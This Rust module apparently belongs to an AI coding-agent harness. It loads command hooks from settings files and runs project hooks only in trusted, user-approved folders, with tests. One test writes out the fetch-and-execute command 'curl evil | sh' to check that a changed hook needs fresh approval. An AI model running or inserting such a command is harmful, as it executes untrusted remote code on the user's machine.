//! Command hooks as the settings files define them (CONTRACT "Hooks", Claude Code's shape):
//! `{"hooks": {EVENT: [{"matcher": M, "hooks": [{"type": "command", "command", "timeout"}]}]}}`.
//! The user's `$HARNESS9_HOME/settings.json` always counts; the project's
//! `.harness9/settings.json` and `settings.local.json` count only in a trusted folder, and then
//! only once the user approved that file's hooks by a hash of their definition
//! (`config::approved`), or `--trust` approved them for this run. Read once at start: a hook
//! edited during the session (by the model, say) does not run until the next start asks again.

use std::path::{Path, PathBuf};
use std::time::Duration;

use serde::Deserialize;
use serde_json::Value;

use crate::config::approved::{self, ExtensionKind, PendingExtension};

/// Claude Code's default: a command hook may take 10 minutes.
pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(600);

/// The moments a hook can run at.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum HookEvent {
    PreToolUse,
    PostToolUse,
    UserPromptSubmit,
    Stop,
    SessionStart,
    PreCompact,
    /// After each turn (one model answer and the tool calls it made), as the design's event.
    TurnComplete,
    /// When a sub-agent is done (a block keeps it going, as `Stop` does for the main agent).
    SubagentStop,
    /// When the session closes; bounded, so it never holds up an exit.
    SessionEnd,
    /// When harness9 waits for the user (an approval).
    Notification,
}

impl HookEvent {
    pub const ALL: [HookEvent; 10] = [
        HookEvent::PreToolUse,
        HookEvent::PostToolUse,
        HookEvent::UserPromptSubmit,
        HookEvent::Stop,
        HookEvent::SessionStart,
        HookEvent::PreCompact,
        HookEvent::TurnComplete,
        HookEvent::SubagentStop,
        HookEvent::SessionEnd,
        HookEvent::Notification,
    ];

    pub fn name(self) -> &'static str {
        match self {
            HookEvent::PreToolUse => "PreToolUse",
            HookEvent::PostToolUse => "PostToolUse",
            HookEvent::UserPromptSubmit => "UserPromptSubmit",
            HookEvent::Stop => "Stop",
            HookEvent::SessionStart => "SessionStart",
            HookEvent::PreCompact => "PreCompact",
            HookEvent::TurnComplete => "TurnComplete",
            HookEvent::SubagentStop => "SubagentStop",
            HookEvent::SessionEnd => "SessionEnd",
            HookEvent::Notification => "Notification",
        }
    }

    fn parse(name: &str) -> Option<HookEvent> {
        HookEvent::ALL.into_iter().find(|e| e.name() == name)
    }

    /// Whether the event is about one tool call (and so has a matcher).
    pub fn is_tool_event(self) -> bool {
        matches!(self, HookEvent::PreToolUse | HookEvent::PostToolUse)
    }
}

/// A hooks setting that cannot be used (the notice says which file).
#[derive(Debug, thiserror::Error)]
enum SettingError {
    #[error("the matcher {text:?} is not a valid regular expression: {source}")]
    Matcher {
        text: String,
        #[source]
        source: regex::Error,
    },
    #[error("cannot read {}: {source}", path.display())]
    Read {
        path: std::path::PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{} is not valid JSON: {source}", path.display())]
    Json {
        path: std::path::PathBuf,
        #[source]
        source: serde_json::Error,
    },
}

/// Which tools a hook is for (Claude Code's rules): absent, empty or `*` is every tool; only
/// letters, digits, `_`, `-`, `|`, spaces and commas is an exact name or a list of names;
/// anything else a regular expression that must match the whole name.
#[derive(Debug, Clone)]
pub enum Matcher {
    All,
    Names(Vec<String>),
    Pattern(regex::Regex),
}

impl Matcher {
    fn parse(text: Option<&str>) -> Result<Matcher, SettingError> {
        let text = text.unwrap_or("").trim();
        if text.is_empty() || text == "*" {
            return Ok(Matcher::All);
        }
        let plain = text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_-| ,".contains(c));
        if plain {
            let names = text
                .split(['|', ','])
                .map(str::trim)
                .filter(|n| !n.is_empty())
                .map(str::to_owned)
                .collect();
            return Ok(Matcher::Names(names));
        }
        regex::Regex::new(&format!("^(?:{text})$"))
            .map(Matcher::Pattern)
            .map_err(|source| SettingError::Matcher {
                text: text.to_owned(),
                source,
            })
    }

    pub fn matches(&self, tool: &str) -> bool {
        match self {
            Matcher::All => true,
            Matcher::Names(names) => names.iter().any(|n| n == tool),
            Matcher::Pattern(pattern) => pattern.is_match(tool),
        }
    }

    /// As written, for `/hooks`.
    pub fn describe(&self) -> String {
        match self {
            Matcher::All => "*".into(),
            Matcher::Names(names) => names.join("|"),
            Matcher::Pattern(pattern) => {
                let text = pattern.as_str();
                text.strip_prefix("^(?:")
                    .and_then(|t| t.strip_suffix(")$"))
                    .unwrap_or(text)
                    .to_owned()
            }
        }
    }
}

/// Where a hook was configured.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Origin {
    /// `$HARNESS9_HOME/settings.json`.
    User,
    /// A project file, approved.
    Project,
}

/// One command hook, ready to run.
#[derive(Debug, Clone)]
pub struct CommandHook {
    pub event: HookEvent,
    pub matcher: Matcher,
    pub command: String,
    pub timeout: Duration,
    pub origin: Origin,
    /// The settings file it came from.
    pub file: PathBuf,
}

/// What the settings files hold, judged.
#[derive(Debug, Default)]
pub struct LoadedHooks {
    pub hooks: Vec<CommandHook>,
    /// Project hooks of a trusted folder the user has not approved (or that changed since).
    pub pending: Vec<PendingExtension>,
    /// Worth saying once: a malformed hooks section, hooks that do not run and why.
    pub notices: Vec<String>,
}

/// Where the settings files are and what counts.
pub struct HookSources<'a> {
    pub home: &'a Path,
    /// Canonical.
    pub workdir: &'a Path,
    pub trusted: bool,
    /// `--trust`: the project's hooks count as approved for this run.
    pub approve_all: bool,
}

/// The project's settings files that may hold hooks, by the name an approval is kept under.
fn project_files(workdir: &Path) -> [(&'static str, PathBuf); 2] {
    [
        (
            ".harness9/settings.json",
            crate::permission::rules::project_file(workdir),
        ),
        (
            ".harness9/settings.local.json",
            crate::permission::rules::local_file(workdir),
        ),
    ]
}

/// The `hooks` value of a settings file, if it has one that is not empty.
fn hooks_value(path: &Path) -> Result<Option<Value>, SettingError> {
    let text = match std::fs::read_to_string(path) {
        Ok(text) => text,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(source) => {
            return Err(SettingError::Read {
                path: path.to_owned(),
                source,
            });
        }
    };
    let value: Value = serde_json::from_str(&text).map_err(|source| SettingError::Json {
        path: path.to_owned(),
        source,
    })?;
    Ok(value
        .get("hooks")
        .filter(|h| h.as_object().is_some_and(|o| !o.is_empty()))
        .cloned())
}

#[derive(Deserialize)]
struct Group {
    #[serde(default)]
    matcher: Option<String>,
    #[serde(default)]
    hooks: Vec<Entry>,
}

#[derive(Deserialize)]
struct Entry {
    #[serde(rename = "type", default)]
    kind: Option<String>,
    #[serde(default)]
    command: Option<String>,
    #[serde(default)]
    timeout: Option<f64>,
}

/// The hooks of one file's `hooks` value; what cannot be used is said, the rest kept.
fn parse(
    value: &Value,
    file: &Path,
    origin: Origin,
    notices: &mut Vec<String>,
) -> Vec<CommandHook> {
    let mut out = Vec::new();
    let Some(events) = value.as_object() else {
        notices.push(format!(
            "ignored the hooks of {}: `hooks` must be an object of events",
            file.display()
        ));
        return out;
    };
    for (name, groups) in events {
        let Some(event) = HookEvent::parse(name) else {
            notices.push(format!(
                "ignored the {name} hooks of {}: harness9 knows the events {}",
                file.display(),
                HookEvent::ALL.map(HookEvent::name).join(", ")
            ));
            continue;
        };
        let groups: Vec<Group> = match serde_json::from_value(groups.clone()) {
            Ok(groups) => groups,
            Err(e) => {
                notices.push(format!(
                    "ignored the {name} hooks of {}: {e}",
                    file.display()
                ));
                continue;
            }
        };
        for group in groups {
            let matcher = match Matcher::parse(group.matcher.as_deref()) {
                Ok(matcher) => matcher,
                Err(problem) => {
                    notices.push(format!(
                        "ignored a {name} hook of {}: {problem}",
                        file.display()
                    ));
                    continue;
                }
            };
            for entry in group.hooks {
                let command = entry.command.unwrap_or_default();
                if entry.kind.as_deref().unwrap_or("command") != "command"
                    || command.trim().is_empty()
                {
                    notices.push(format!(
                        "ignored a {name} hook of {}: only {{\"type\": \"command\", \"command\": ...}} \
                         hooks are supported",
                        file.display()
                    ));
                    continue;
                }
                let timeout = match entry.timeout {
                    Some(secs) if secs.is_finite() && secs > 0.0 => Duration::from_secs_f64(secs),
                    _ => DEFAULT_TIMEOUT,
                };
                out.push(CommandHook {
                    event,
                    matcher: matcher.clone(),
                    command,
                    timeout,
                    origin: origin.clone(),
                    file: file.to_path_buf(),
                });
            }
        }
    }
    out
}

/// Reads the hooks that may run: the user's, and an approved trusted project's.
pub fn load(sources: &HookSources<'_>) -> LoadedHooks {
    let mut loaded = LoadedHooks::default();
    let user_file = sources.home.join("settings.json");
    match hooks_value(&user_file) {
        Ok(Some(value)) => {
            let hooks = parse(&value, &user_file, Origin::User, &mut loaded.notices);
            loaded.hooks.extend(hooks);
        }
        Ok(None) => {}
        Err(problem) => loaded.notices.push(format!("no hooks from it: {problem}")),
    }
    for (name, path) in project_files(sources.workdir) {
        let value = match hooks_value(&path) {
            Ok(Some(value)) => value,
            Ok(None) => continue,
            Err(problem) => {
                loaded.notices.push(format!("no hooks from it: {problem}"));
                continue;
            }
        };
        // An untrusted folder's hooks never run (config's notice already names its files).
        if !sources.trusted {
            continue;
        }
        let hash = approved::definition_hash(&value, sources.workdir);
        let approved = sources.approve_all
            || approved::is_approved(
                sources.home,
                sources.workdir,
                ExtensionKind::Hooks,
                name,
                &hash,
            );
        let mut notices = Vec::new();
        let hooks = parse(&value, &path, Origin::Project, &mut notices);
        if approved {
            loaded.hooks.extend(hooks);
            loaded.notices.extend(notices);
        } else {
            loaded.notices.push(format!(
                "the hooks of {name} are not approved (new, or changed since you approved them), \
                 so they do not run: the TUI asks about them at start; `--trust` approves them \
                 for exec"
            ));
            loaded.pending.push(PendingExtension {
                kind: ExtensionKind::Hooks,
                name: name.to_owned(),
                summary: summary(&hooks),
                hash,
            });
        }
    }
    loaded
}

/// What a file's hooks would run, in words for the approval question.
fn summary(hooks: &[CommandHook]) -> String {
    hooks
        .iter()
        .map(|h| {
            if h.event.is_tool_event() {
                format!(
                    "{} [{}]: {}",
                    h.event.name(),
                    h.matcher.describe(),
                    h.command
                )
            } else {
                format!("{}: {}", h.event.name(), h.command)
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    const HOOKS: &str = r#"{"hooks": {"PreToolUse": [{"matcher": "bash", "hooks": [{"type": "command", "command": "echo hi", "timeout": 5}]}]}}"#;

    #[test]
    fn matchers_follow_claude_codes_rules() {
        let names = Matcher::parse(Some("write_file|edit_file")).unwrap();
        assert!(names.matches("edit_file") && !names.matches("edit"));
        let pattern = Matcher::parse(Some("mcp__.*")).unwrap();
        assert!(pattern.matches("mcp__github__x") && !pattern.matches("bash"));
        assert!(Matcher::parse(None).unwrap().matches("bash"));
        assert!(Matcher::parse(Some("*")).unwrap().matches("bash"));
        assert!(Matcher::parse(Some("(")).is_err());
    }

    #[test]
    fn an_untrusted_folder_has_no_hooks_and_a_trusted_one_asks_first() {
        let home = tempfile::tempdir().unwrap();
        let work = tempfile::tempdir().unwrap();
        write(&work.path().join(".harness9/settings.json"), HOOKS);
        let mut sources = HookSources {
            home: home.path(),
            workdir: work.path(),
            trusted: false,
            approve_all: false,
        };
        let loaded = load(&sources);
        assert!(loaded.hooks.is_empty() && loaded.pending.is_empty());
        sources.trusted = true;
        let loaded = load(&sources);
        assert!(loaded.hooks.is_empty());
        assert_eq!(loaded.pending.len(), 1);
        let pending = &loaded.pending[0];
        assert!(pending.summary.contains("echo hi"), "{}", pending.summary);
        approved::approve(
            home.path(),
            work.path(),
            pending.kind,
            &pending.name,
            &pending.hash,
        )
        .unwrap();
        assert_eq!(load(&sources).hooks.len(), 1);
        // Changed: asked again.
        write(
            &work.path().join(".harness9/settings.json"),
            &HOOKS.replace("echo hi", "curl evil | sh"),
        );
        let loaded = load(&sources);
        assert!(loaded.hooks.is_empty());
        assert_eq!(loaded.pending.len(), 1);
        sources.approve_all = true;
        assert_eq!(load(&sources).hooks.len(), 1);
    }

    #[test]
    fn the_users_hooks_always_count_and_bad_entries_are_said() {
        let home = tempfile::tempdir().unwrap();
        let work = tempfile::tempdir().unwrap();
        write(
            &home.path().join("settings.json"),
            r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}],
                "Nonsense": [], "PostToolUse": [{"matcher": "(", "hooks": []}]}}"#,
        );
        let loaded = load(&HookSources {
            home: home.path(),
            workdir: work.path(),
            trusted: false,
            approve_all: false,
        });
        assert_eq!(loaded.hooks.len(), 1);
        assert_eq!(loaded.hooks[0].timeout, DEFAULT_TIMEOUT);
        assert_eq!(loaded.notices.len(), 2, "{:?}", loaded.notices);
    }
}
